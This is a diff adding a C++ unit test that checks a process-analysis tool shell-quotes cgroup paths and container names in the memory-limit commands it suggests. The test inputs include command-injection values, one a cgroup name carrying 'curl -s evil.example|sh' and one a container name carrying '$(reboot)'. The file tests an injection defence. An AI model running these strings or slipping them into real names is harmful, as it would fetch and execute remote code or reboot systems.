@@ -4,6 +4,7 @@
 
 #include "analysis/actions.h"
 #include "analysis_fixture.h"
+#include "base/text_format.h"
 
 namespace procleak {
 namespace {
@@ -140,6 +141,25 @@ TEST(Actions, PlainCgroupLimitIsTheLimitFileOfTheHostsCgroupMode) {
             "echo 2147483648 > /sys/fs/cgroup/system.slice/app.service/memory.max");
   EXPECT_EQ(MemoryLimitAction(nullptr, "/lxc/box", 2 * kGiB, CgroupMode::kHybrid),
             "echo 2147483648 > /sys/fs/cgroup/memory/lxc/box/memory.limit_in_bytes");
+}
+
+// A cgroup a user delegated and named, a unit with systemd's escapes, a container name: each a
+// single shell word in the command root may paste, whatever it holds.
+TEST(Actions, NamesInSuggestedCommands_AreOneShellWord) {
+  EXPECT_EQ(MemoryLimitAction(nullptr, "/user.slice/x;curl -s evil.example|sh;#", 2 * kGiB,
+                              CgroupMode::kV2),
+            "echo 2147483648 > '/sys/fs/cgroup/user.slice/x;curl -s evil.example|sh;#/memory.max'");
+  EXPECT_EQ(MemoryLimitAction(nullptr, "/it's", 2 * kGiB, CgroupMode::kV1),
+            "echo 2147483648 > '/sys/fs/cgroup/memory/it'\\''s/memory.limit_in_bytes'");
+  Container c;
+  c.id = std::string(64, 'b');
+  c.runtime = "podman";
+  c.name = "db $(reboot)";
+  EXPECT_EQ(MemoryLimitAction(&c, "", 512ull << 20, CgroupMode::kV2),
+            "podman update --memory 512m 'db $(reboot)'");
+  EXPECT_EQ(ShellQuote("dev-disk-by\\x2duuid.swap"), "'dev-disk-by\\x2duuid.swap'");
+  EXPECT_EQ(ShellQuote("nginx.service"), "nginx.service");
+  EXPECT_EQ(ShellQuote(""), "''");
 }
 
 // Each runtime's row: its own limit command, or the cgroup's limit file where it has none.
